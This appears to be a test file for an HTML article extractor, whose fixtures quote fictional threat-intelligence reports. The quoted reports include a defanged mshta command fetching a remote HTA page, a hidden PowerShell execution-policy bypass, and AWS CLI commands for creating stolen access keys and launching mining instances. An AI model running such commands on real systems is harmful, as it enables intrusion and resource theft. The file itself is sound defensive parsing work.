import { describe, expect, it } from "vitest";
import { extractDocument } from "../src/documents/extract";
import {
  hiddenElement,
  isAttackLink,
  isCitationLine,
  isReferenceHeading,
  isUrlOnlyLine,
  LINK_CLOSE,
  LINK_OPEN,
  linkDense,
  mentionsTechnique,
  mostlyUrls,
  nameParts,
  namesContent,
  namesFurniture,
  namesHeader,
} from "../src/documents/html-rules";
import { EXTRACT_LIMITS } from "../src/documents/limits";
import { nestedHtml } from "./bombs";
import { documentFixture, failure } from "./helpers";

const html = async (page: string) => (await extractDocument(new TextEncoder().encode(page), "text/html")).text;

/** Every heading line stands between blank lines (or at the start). */
function expectHeadingsApart(lines: string[], headings: string[]): void {
  for (const heading of headings) {
    const at = lines.indexOf(heading);
    expect(at, heading).toBeGreaterThanOrEqual(0);
    if (at > 0) expect(lines[at - 1], `before ${heading}`).toBe("");
    expect(lines[at + 1], `after ${heading}`).toBe("");
  }
}

describe("HTML pages: only the article comes out", () => {
  it.each([
    {
      page: "blog-wordpress.html",
      title: "Tidewater: a loader that hides in plain sight \u2013 Northlight Security Blog",
      lines: [
        "Tidewater: a loader that hides in plain sight",
        "",
        "Posted on March 14, 2025 by Mara Lind",
        "",
        "Since January we have tracked an intrusion set that delivers a loader we call Tidewater to logistics companies in northern Europe.",
        "",
        "The operators send invoices as password-protected ZIP archives. Each archive holds a shortcut file that starts mshta.exe with a remote HTA page.",
        "",
        "Execution chain",
        "",
        "The HTA page writes a PowerShell script to the user\u2019s temporary folder and runs it with the execution policy bypassed. The script decodes the loader from a Base64 blob and injects it into a suspended explorer.exe process.",
        "",
        "Figure 1. How the lure reaches the loader.",
        "",
        "Persistence and discovery",
        "",
        "Tidewater survives reboots through a Run key named OneDriveSync. On its first start it collects the host name, the domain and the list of running security products, and sends them to its server.",
        "",
        "Registry value HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
        "Scheduled check-in every 300 seconds",
        "",
        "The loader stops if it finds a debugger attached to its own process.",
        "",
        "Command and control",
        "",
        "Beacons travel over HTTPS to domains registered a few days before each wave. The server answers with an encrypted module that the loader maps into memory without writing it to disk.",
        "",
        "Indicator | Kind | First seen",
        "invoice-portal[.]example | Domain | 2025-01-09",
        "185.220.101[.]4 | IPv4 | 2025-02-02",
        "",
        "mshta.exe hxxps://invoice-portal[.]example/inv.hta",
        "powershell.exe -ep bypass -w hidden -f %TEMP%\\upd.ps1",
      ],
      headings: ["Tidewater: a loader that hides in plain sight", "Execution chain", "Command and control"],
      furniture: [
        "Skip to content",
        "Research",
        "Links",
        "Share",
        "Email a friend",
        "References",
        "field guide",
        "process-hollowing",
        "CERT-EU",
        "Threat research",
        "Tagged",
        "Related",
        "Previous post",
        "thought",
        "spearphishing link",
        "Leave a Reply",
        "Recent Posts",
        "Subscribe",
        "rights reserved",
        "cookies",
      ],
    },
    {
      page: "vendor-divsoup.html",
      title: "Threat Brief: ShadowLedger targets payroll systems | Corvid Labs",
      lines: [
        "Threat Brief: ShadowLedger targets payroll systems",
        "",
        "ShadowLedger is a financially motivated group that has hit payroll providers in three countries this year.",
        "",
        "Initial access comes from stolen VPN credentials bought on underground markets. The group logs in outside office hours and checks which accounts have administrative rights.",
        "",
        "Lateral movement",
        "",
        "From the first host the operators use Remote Desktop to reach the payroll servers. They copy a renamed AnyDesk binary to each server so they keep access if the VPN account is reset.",
        "On two servers they dumped the memory of the LSASS process with a signed vendor tool.",
        "",
        "Techniques seen",
        "",
        "ID | Technique",
        "T1078 | Valid Accounts",
        "T1021.001 | Remote Desktop Protocol",
        "",
        "Impact",
        "",
        "Before leaving, the group changes the bank details of a handful of employees so that the next salary run pays into mule accounts.",
      ],
      headings: ["Threat Brief: ShadowLedger targets payroll systems", "Lateral movement", "Techniques seen", "Impact"],
      furniture: [
        "Support",
        "Products",
        "Links",
        "Home",
        "Share",
        "Twitter",
        "Tags",
        "Sources",
        "https://",
        "Ilse Kaur",
        "You may also like",
        "Spearphishing links",
        "Popular",
        "newsletter",
        "demo",
        "Privacy",
        "Copyright",
        "cookies",
      ],
    },
    {
      page: "main-sidebar.html",
      title: "Harvest Moon: cloud token theft in the wild",
      lines: [
        "Harvest Moon: cloud token theft in the wild",
        "",
        "A cluster we name Harvest Moon steals OAuth refresh tokens from developers and uses them to read source code and secrets.",
        "",
        "How access is gained",
        "",
        "The actor registers a lookalike of a popular code-signing service and invites developers to authorise it. Once consent is granted, the application receives a refresh token that outlives password changes.",
        "",
        "With the token the actor lists repositories, clones the private ones and searches them for cloud keys.",
        "",
        "What happens next",
        "",
        "Keys found in the code are tested against the cloud provider's API within minutes.",
        "Working keys are used to create new access keys for existing service accounts.",
        "The actor starts compute instances in unused regions to mine cryptocurrency.",
        "",
        "aws iam create-access-key --user-name ci-deployer",
        "aws ec2 run-instances --region ap-southeast-3 --instance-type c5.24xlarge",
        "",
        "Detection",
        "",
        "Alert on consent grants to applications registered in the last thirty days, and on access keys created from unfamiliar networks.",
      ],
      headings: ["How access is gained", "What happens next", "Detection"],
      furniture: [
        "Stratus Research",
        "Latest research",
        "poisoned caches",
        "Tags",
        "phishing",
        "Further reading",
        "docs.example.com",
        "Token theft explained",
        "Links",
        "Cloud security centre",
        "Write to research",
        "trademark",
      ],
    },
    {
      page: "cookie-dialog.html",
      title: "Advisory 2025-07: Ironbark wipers hit energy firms",
      lines: [
        "Advisory 2025-07: Ironbark wipers hit energy firms",
        "",
        "Summary. An actor we track as Ironbark destroyed data at two energy companies after months of quiet access.",
        "",
        "Timeline",
        "",
        "The intrusions began with password spraying against webmail portals. Accounts without multi-factor authentication were taken over within days.",
        "",
        "Ironbark then pushed a wiper to every workstation through a Group Policy object that ran a startup script.",
        "",
        "Wiper behaviour",
        "",
        "The wiper overwrites the first megabyte of each physical disk, deletes volume shadow copies and forces a reboot. Systems fail to start afterwards.",
        "",
        "Hashes",
        "SHA-256 | Name",
        "4f2a9c0d1e7b3a5f6c8e9d0b1a2c3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d | gpupdate.exe",
        "",
        "Recommendations",
        "",
        "Require multi-factor authentication for every externally reachable login.",
        "Alert when a Group Policy object gains a new startup script.",
      ],
      headings: ["Timeline", "Wiper behaviour", "Recommendations"],
      furniture: [
        "privacy",
        "cookies",
        "Accept",
        "Helix CERT",
        "Links",
        "hotline",
        "Internal note",
        "Scroll to continue",
        "example.gov",
        "subscribe",
        "Toot",
        "More advisories",
        "supply-chain",
      ],
    },
  ])("$page", async ({ page, title, lines, headings, furniture }) => {
    const doc = await extractDocument(await documentFixture(page), "text/html");
    expect(doc.title).toBe(title);
    expect(doc.text.split("\n")).toEqual(lines);
    expectHeadingsApart(lines, headings);
    for (const text of furniture) expect(doc.text, text).not.toContain(text);
  });
});

describe("HTML extraction rules", () => {
  const para = (s: string) => `<p>${s}</p>`;
  const prose = "The actor ran PowerShell to download a second stage.";

  it("keeps a <header> inside the article and drops the site's, by tag or by id", async () => {
    expect(
      await html(
        `<header><p>Site name</p></header><div id="header">Site menu</div>` +
          `<article><header><h1>Report</h1></header>${para(prose)}</article><div>Two</div><article>${para("x.")}</article>`,
      ),
    ).toBe(`Report\n\n${prose}\n\nTwo\n\nx.`);
    expect(
      await html(`<div class="post"><header class="entry-header"><h1>Report</h1></header>${para(prose)}</div>`),
    ).toBe(`Report\n\n${prose}`);
  });

  it("never drops the article for a furniture word in a wrapper's name", async () => {
    for (const cls of ["post has-sidebar", "content-sidebar-wrap", "article-body related-content", "layout-sidebar"])
      expect(await html(`<div class="${cls}">${para(prose)}</div>`), cls).toBe(prose);
    // A wrapper named as furniture that turns out to hold <main> stays; then <main> is the text.
    expect(
      await html(
        `<div class="nav-wrapper"><a href="/">Home</a> <a href="/b">Blog</a><main>${para(prose)}</main></div>`,
      ),
    ).toBe(prose);
    // ASP.NET wraps the whole page in a form; a sign-up form is furniture.
    const long = `${prose} `.repeat(30).trim();
    expect(await html(`<form id="aspnetForm">${para(long)}</form><form>${para("Email me updates")}</form>`)).toBe(long);
  });

  it("prefers <main>, else a lone <article> or articleBody, and reads the whole page otherwise", async () => {
    expect(await html(`${para("Menu text")}<div role="main">${para(prose)}</div>${para("Footer text")}`)).toBe(prose);
    expect(await html(`${para("Teaser")}<div itemprop="articleBody">${para(prose)}</div>`)).toBe(prose);
    expect(await html(`${para("Intro")}<article>${para("One.")}</article><article>${para("Two.")}</article>`)).toBe(
      "Intro\n\nOne.\n\nTwo.",
    );
    // An empty <main> (filled by script) is no reason to drop the page.
    expect(await html(`<main></main>${para(prose)}`)).toBe(prose);
  });

  it("drops link lists with their heading, but not ATT&CK links or prose with links", async () => {
    const related = `<h3>Links</h3><ul><li><a href="/a">Phishing trends</a></li><li><a href="/b">Ransomware notes</a></li></ul>`;
    expect(await html(`${para(prose)}${related}${para("After.")}`)).toBe(`${prose}\n\nAfter.`);
    const attack =
      `<ul><li><a href="https://attack.mitre.org/techniques/T1059/001/">PowerShell</a></li>` +
      `<li><a href="https://attack.mitre.org/techniques/T1105/">Ingress Tool Transfer</a></li></ul>`;
    expect(await html(attack)).toBe("PowerShell\nIngress Tool Transfer");
    const named = `<ul><li><a href="/t/1">T1566.001 Spearphishing Attachment</a></li><li><a href="/t/2">T1204 User Execution</a></li></ul>`;
    expect(await html(named)).toBe("T1566.001 Spearphishing Attachment\nT1204 User Execution");
    const inline = para(
      `The group used <a href="/cs">Cobalt Strike</a> and <a href="/mk">Mimikatz</a> on the servers.`,
    );
    expect(await html(inline)).toBe("The group used Cobalt Strike and Mimikatz on the servers.");
  });

  it("drops bare URL lines and lists, and reference sections made only of citations", async () => {
    expect(await html(`${para(prose)}<p>https://example.com/report<br>hxxps://evil[.]com/a</p>`)).toBe(
      `${prose}\n\nhxxps://evil[.]com/a`,
    );
    expect(
      await html(`<ul><li>https://a.example/x</li><li>https://b.example/y</li><li>Vendor blog</li></ul>${para(prose)}`),
    ).toBe(prose);
    const refs =
      `<h2>Sources</h2><p>The timeline draws on interviews with the victims' responders.</p>` +
      `<ol><li><a href="https://x.example/r">Exploitation of remote services</a></li><li>[2] Vendor (2024). Annual report.</li></ol>`;
    expect(await html(`${para(prose)}${refs}<h2>Next</h2>${para("More.")}`)).toBe(
      `${prose}\n\nSources\n\nThe timeline draws on interviews with the victims' responders.\n\nNext\n\nMore.`,
    );
  });

  it("writes table rows on one line, unless the table lays out the page", async () => {
    expect(
      await html(`<table><tr><th>A</th><th>B</th></tr><tr><td>1<br>x</td><td><div>2</div></td></tr></table>`),
    ).toBe("A | B\n1 x | 2");
    expect(await html(`<table><tr><td>a<td>b<tr><td>c<td>d</table>`)).toBe("a | b\nc | d");
    expect(
      await html(
        `<table role="presentation"><tr><td><h2>Title</h2>${para(prose)}</td><td>${para("Side.")}</td></tr></table>`,
      ),
    ).toBe(`Title\n\n${prose}\n\nSide.`);
    expect(await html(`<table><tr><td><h2>Title</h2>${para(prose)}</td></tr></table>`)).toBe(`Title\n\n${prose}`);
  });

  it("keeps headings and list items whole, and reads pages hidden until their script runs", async () => {
    expect(await html(`<h2>Initial<br>access</h2><ul><li><p>One</p><p>two</p></li><li>Three</li></ul>`)).toBe(
      "Initial access\n\nOne\ntwo\nThree",
    );
    expect(
      await html(`<body style="display:none">${para(prose)}<div hidden="until-found">${para("Found.")}</div></body>`),
    ).toBe(`${prose}\n\nFound.`);
  });
});

describe("HTML extraction limits", () => {
  it("checks the time in end tags too (they weigh blocks), and refuses with the cap's error", async () => {
    // 2,050 start tags and 2,049 end-tag handlers: the clock's 4,096th look falls on an end tag.
    const bytes = new TextEncoder().encode(nestedHtml(2048));
    const error = await failure(
      extractDocument(bytes, "text/html", undefined, { limits: { ...EXTRACT_LIMITS, maxMs: -1 } }),
    );
    expect(error).toMatchObject({ status: 422, code: "document_too_complex" });
    expect(error.message).toMatch(/^document too complex \(extraction_time\)/);
  });
});

describe("HTML classification helpers", () => {
  it("hides elements by tag, role, attribute and inline style, but never the page itself", () => {
    const attrs = (a: Record<string, string>) => ({
      hasAttribute: (name: string) => name in a,
      getAttribute: (name: string) => a[name] ?? null,
    });
    expect(hiddenElement("nav", null, attrs({}))).toBe(true);
    expect(hiddenElement("div", "navigation", attrs({}))).toBe(true);
    expect(hiddenElement("div", null, attrs({ hidden: "" }))).toBe(true);
    expect(hiddenElement("div", null, attrs({ hidden: "until-found" }))).toBe(false);
    expect(hiddenElement("span", null, attrs({ "aria-hidden": "true" }))).toBe(true);
    expect(hiddenElement("div", null, attrs({ style: "color:red; DISPLAY: none" }))).toBe(true);
    expect(hiddenElement("body", null, attrs({ style: "display:none" }))).toBe(false);
    expect(hiddenElement("div", "main", attrs({ class: "share" }))).toBe(false);
  });

  it("splits class and id names into parts", () => {
    expect(nameParts("relatedPosts_2")).toEqual(["related", "posts"]);
    expect(nameParts("jp-relatedposts-headline")).toEqual(["jp", "relatedposts", "headline"]);
    expect(nameParts("CybotCookiebotDialog")).toEqual(["cybot", "cookiebot", "dialog"]);
  });

  it("names furniture by whole tokens or their parts, unless a token names the content", () => {
    for (const [cls, id] of [
      ["share", null],
      ["social-share-bar", null],
      ["cookie-notice-container", null],
      [null, "onetrust-consent-sdk"],
      ["widget widget_recent_entries", null],
      ["breadcrumbs", null],
      ["author-box", null],
      ["entry-footer", null],
      ["skip-link screen-reader-text", null],
      ["ad-slot", null],
      ["comments-area", "comments"],
      [null, "sidebar2"],
    ] as const) {
      expect(namesFurniture(cls, id), `${cls} #${id}`).toBe(true);
    }
    for (const [cls, id] of [
      ["article-body related-content", null],
      ["post has-sidebar", null],
      ["content-sidebar-wrap", null],
      ["entry-content", null],
      ["site-content", "content"],
      ["shared-responsibility", null],
      ["research-notes", null],
      ["token comment", null],
      [null, null],
      ["", ""],
    ] as const) {
      expect(namesFurniture(cls, id), `${cls} #${id}`).toBe(false);
    }
    expect(namesContent("entry-header", null)).toBe(true);
    expect(namesContent("site-header", "masthead")).toBe(false);
    expect(namesHeader(null, "header")).toBe(true);
    expect(namesHeader("site-header sticky", null)).toBe(true);
    expect(namesHeader("entry-header", null)).toBe(false);
  });

  it("weighs link density for blocks of short items", () => {
    expect(linkDense({ text: 100, link: 90, links: 4 })).toBe(true);
    expect(linkDense({ text: 100, link: 50, links: 4 })).toBe(false); // prose with links
    expect(linkDense({ text: 60, link: 60, links: 1 })).toBe(false); // one linked line
    expect(linkDense({ text: 2000, link: 1500, links: 20 })).toBe(false); // 500 characters of prose around them
    expect(linkDense({ text: 600, link: 600, links: 2 })).toBe(false); // long items: paragraphs, not headlines
    expect(linkDense({ text: 0, link: 0, links: 3 })).toBe(false); // icons
    expect(mentionsTechnique("see T1059.001 and more")).toBe(true);
    expect(mentionsTechnique("T10590 or XT1059")).toBe(false);
    expect(isAttackLink("https://attack.mitre.org/techniques/T1059/")).toBe(true);
    expect(isAttackLink("https://attack.mitre.org.evil.example/")).toBe(false);
  });

  it("recognises reference headings, citation lines and bare URL lines", () => {
    for (const h of ["References", "Sources:", "Further reading", "External links", "Links", "7. References"])
      expect(isReferenceHeading(h), h).toBe(true);
    for (const h of ["Linked infrastructure", "Sources of initial access", "Data sources and collection methods"])
      expect(isReferenceHeading(h), h).toBe(false);
    for (const line of [
      `${LINK_OPEN}A field guide to HTA loaders${LINK_CLOSE}`,
      "https://example.org/a",
      "[3] Vendor blog post on loaders",
      "CERT-EU (2024). Threat landscape report.",
      "Smith, J. Retrieved March 2025.",
    ])
      expect(isCitationLine(line), line).toBe(true);
    for (const line of [
      "",
      "The timeline draws on interviews with responders.",
      `See ${LINK_OPEN}here${LINK_CLOSE} for the full story.`,
    ])
      expect(isCitationLine(line), line).toBe(false);
    for (const line of [
      "https://example.com/a?b=c",
      "[2] https://x.example/y.",
      "Source: www.example.com/report",
      "- <https://a.b>",
    ])
      expect(isUrlOnlyLine(line), line).toBe(true);
    for (const line of [
      "hxxps://evil[.]com/a",
      "C2 at https://evil.example/gate.php over HTTPS",
      "https://a.example | URL",
    ])
      expect(isUrlOnlyLine(line), line).toBe(false);
    expect(mostlyUrls("https://a.example/1\n\nhttps://b.example/2\nVendor blog")).toBe(true);
    expect(mostlyUrls("https://a.example/1\nVendor blog")).toBe(false);
  });
});
